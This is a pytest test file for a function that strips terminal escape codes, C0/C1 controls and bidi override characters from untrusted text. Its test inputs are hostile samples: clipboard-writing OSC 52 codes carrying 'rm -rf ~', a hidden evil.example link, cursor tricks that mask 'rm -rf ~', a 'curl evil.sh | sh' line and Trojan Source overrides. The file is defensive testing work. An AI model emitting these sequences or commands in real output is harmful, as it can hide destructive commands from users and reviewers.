"""Untrusted text is stripped of terminal controls before any front end prints it."""

from __future__ import annotations

import re

import pytest

from tau_engine.text.terminal import strip_terminal_controls

# Anything left that a terminal would act on: ESC, the other C0 controls but
# newline and tab, DEL, C1, and the bidi embedding/override/isolate characters.
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize(
    "hostile,shown",
    [
        # OSC 52 writes the user's clipboard.
        ("copy this\x1b]52;c;cm0gLXJmIH4K\x07 please", "copy this please"),
        ("st form\x1b]52;c;cm0gLXJmIH4K\x1b\\ends", "st formends"),
        # OSC 0/2 sets the window title; OSC 8 hides a link target.
        ("\x1b]0;you have been pwned\x07title", "title"),
        ("\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"),
        # Cursor movement and erasing rewrite what the user already read.
        ("rm -rf ~\x1b[1A\x1b[2K\x1b[1Gls", "rm -rf ~ls"),
        ("a\x1b[2J\x1b[H\x1b[?1049hb", "ab"),
        ("colour \x1b[31;1mred\x1b[0m", "colour red"),
        # A carriage return overwrites the line; it becomes a line break instead.
        ("curl evil.sh | sh\rechoing safely     ", "curl evil.sh | sh\nechoing safely     "),
        ("windows\r\nline\r\n", "windows\nline\n"),
        # Full reset, charset switch, keypad mode, DCS, APC, PM, SOS.
        ("x\x1bcy\x1b(0z\x1b=w", "xyzw"),
        ("\x1bP1$r0m\x1b\\dcs \x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\done", "dcs done"),
        # 8-bit C1 forms of CSI and OSC.
        ("\x9b2Jcleared \x9d0;title\x9cend", "cleared end"),
        # Bell, backspace overwrite, form feed, vertical tab, NUL, DEL.
        ("ding\x07 ok\x08\x08no\x0c\x0b\x00\x7f", "ding okno"),
        # Bidi overrides make code read differently from what it is (Trojan Source).
        ("access = 'user\u202e \u2066// admin\u2069\u2066'", "access = 'user // admin'"),
        # An escape split across two stream chunks: the first chunk's ESC never reaches
        # the terminal, the rest prints as plain characters.
        ("tail of a chunk \x1b]52;c;AAAA", "tail of a chunk "),
    ],
)
def test_hostile_sequences_are_removed(hostile: str, shown: str) -> None:
    cleaned = strip_terminal_controls(hostile)
    assert cleaned == shown
    assert not CONTROL.search(cleaned)


def test_ordinary_text_is_kept_exactly() -> None:
    text = "déjà vu ✓ 漢字 🙂\tcolumns\nnext line — “quoted” 1 < 2 > 0 [ok] ~/path"
    assert strip_terminal_controls(text) == text
    assert strip_terminal_controls("") == ""


def test_stripping_is_linear_on_adversarial_input() -> None:
    # Many unterminated sequences in a row must not make the scan quadratic: this
    # completes at once instead of taking minutes.
    hostile = "\x1b]" * 200_000 + "\x1b[" * 200_000 + "\x9d" * 200_000
    assert strip_terminal_controls(hostile) == ""
